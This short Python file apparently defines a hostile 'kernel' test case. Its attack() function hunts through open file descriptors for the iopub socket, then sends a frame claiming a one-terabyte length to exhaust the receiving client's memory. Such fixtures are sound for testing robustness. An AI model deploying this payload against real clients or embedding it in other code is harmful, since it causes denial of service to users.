"""Announces a message of a terabyte, and begins to send it.

kind: kernel
"""

def attack():
    for fd in range(3, 200):
        try:
            peer = socket.socket(fileno=os.dup(fd))
            if peer.getsockname() == f"{APP.ip}-{APP.iopub_port}" and not peer.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                break
        except OSError: pass
    peer.setblocking(True)
    peer.sendall(b"\x02" + struct.pack("!Q", 1 << 40) + bytes(1 << 20))
